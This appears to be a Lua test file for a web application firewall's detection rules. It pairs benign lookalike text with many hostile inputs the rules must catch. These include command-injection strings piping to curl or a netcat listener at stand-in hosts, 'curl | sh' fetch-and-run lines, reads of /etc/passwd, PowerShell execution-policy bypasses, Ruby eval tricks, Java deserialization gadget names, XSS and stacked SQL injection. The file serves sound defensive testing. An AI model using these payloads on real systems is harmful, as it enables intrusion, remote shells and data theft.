local rule_checks = require "rule_checks"

-- The hundred-and-seventh set on (tests/edge_security/family_gen_blind_*.py of this round): the families found
-- uncovered and the text beside them, value by value (our own spellings, not the sets').
describe("edge.waf.rules hundred-and-seventh set on", function()
    local caught_by, clean

    setup(function()
        caught_by, clean = rule_checks.new(assert)
    end)

    it("SQLite: the shell's dot commands by their short spellings, and a pipe as the file", function()
        caught_by(132280, { "x'\n.sys uname -a", "1;\n.she cat /etc/hosts", "a\n.import '|curl -s x.example' t",
            "b\n.output \"|nc 10.0.0.5 4444\"", "c\n.once '|/bin/sh'" })
        clean({ ".sys files are Windows drivers", "see the .system folder", "notes\n.shelf life is a week",
            ".import is how we load the CSV" })
    end)

    it("shell: an empty command substitution glued inside a word", function()
        caught_by(132110, { "; w$(:)hoami", "x && ca$(true)t /etc/hosts", "|un$( : )ame -a" })
        clean({ "costs $(5) per seat", "use $(:) to no-op in make" })
    end)

    it("shell: a shell named in prose is no pipe into one", function()
        caught_by(132110, { "x | bash", "; /bin/sh -i", "/bin/sh", "curl x.example/a | sh" })
        clean({ "the shell in the container is /bin/sh, there is no bash", "10 Pipe Lane | Bash, Sussex",
            "We use /bin/bash. Nothing else" })
    end)

    it("PowerShell: an en or em dash before a parameter's name", function()
        caught_by(132190, { "powershell \u{2013}nop \u{2013}c whoami", "pwsh \u{2014}ExecutionPolicy Bypass -f a.ps1",
            "powershell \u{2015}noni \u{2013}w hidden" })
        clean({ "PowerShell \u{2013} the shell we use \u{2013} is fine", "we moved to pwsh \u{2014} mostly" })
    end)

    it("Perl: a two-argument open whose command ends in a pipe", function()
        caught_by(132170, { 'open(my $fh, "id|")', "open(FH, 'uname -a |')", 'open($out, "cat /etc/passwd|")' })
        clean({ 'open(my $fh, "<", $path)', "open(FH, 'data.txt')", "pipes look like | in the docs" })
    end)

    it("Ruby: a constant or a method named by a string built from pieces", function()
        caught_by(132210, { "Object.const_get('Ker'+'nel').system('id')", "x.public_send('sys'+'tem', 'id')",
            'Kernel.send("ev" + "al", code)', "method('sy'+'stem').call('id')" })
        clean({ "Object.const_get('User')", "mailer.send('welcome', user)", "send('a' is fine" })
    end)

    it("Java: a JVM class's internal name, not a URL's host then path", function()
        caught_by(144100, { "Ljava/lang/Runtime;", "org/apache/commons/collections/functors/InvokerTransformer",
            "[Lcom/sun/rowset/JdbcRowSetImpl;" })
        clean({ "https://app.example.com/reports/runtime?range=7d", "https://docs.example.org/guides/processbuilder" })
    end)

    it("XSS: the window reached through document.defaultView, and location sent to window.name", function()
        caught_by(141180, { "document.defaultView['alert'](1)", "x.ownerDocument.defaultView['ev'+'al'](s)",
            "location=name", ";window.location.href=name;", "(top.location=self.name)" })
        clean({ "the defaultView of a document is its window", "location=Berlin", "location = name of the city",
            "sort=location,name" })
    end)

    it("Node.js: a loop on an always-true condition, with comments around it", function()
        caught_by(135120, { "for(;true;){}", "for ( ; 1 ; ) {}", "while/**/(true)/**/{}", "while (1) /* spin */ {" })
        clean({ "while (true) is fine in a worker with a break",
            "for (i = 0; i < 10; i++) {}" })
    end)

    it("SQL: a stacked DESCRIBE or EXPLAIN", function()
        caught_by(142170, { "1; DESC users", "5;describe mysql.user--", "x'; explain select * from users#",
            "1; EXPLAIN ANALYZE DELETE FROM users" })
        clean({ "sort by date; desc is the default", "Cause; describe the problem in detail", "1; explain why",
            "SQL nerd; EXPLAIN ANALYZE is my love language" })
    end)

    it("SQL: a number, a boolean and a column compared by != to an open string, or a call after a space", function()
        caught_by(142250, { "1 xor b!='a", "1 Or ID!='0", "7 and role != 'x",
            "1 AND sys_context/**/('USERENV','DB_NAME') IS NOT NULL", "2 or version ('x')" })
        clean({ "Chapters 1 and 2 (draft)", "Items 1 and some (optional) extras",
            "Room 1 and then (later) room 2" })
    end)
end)
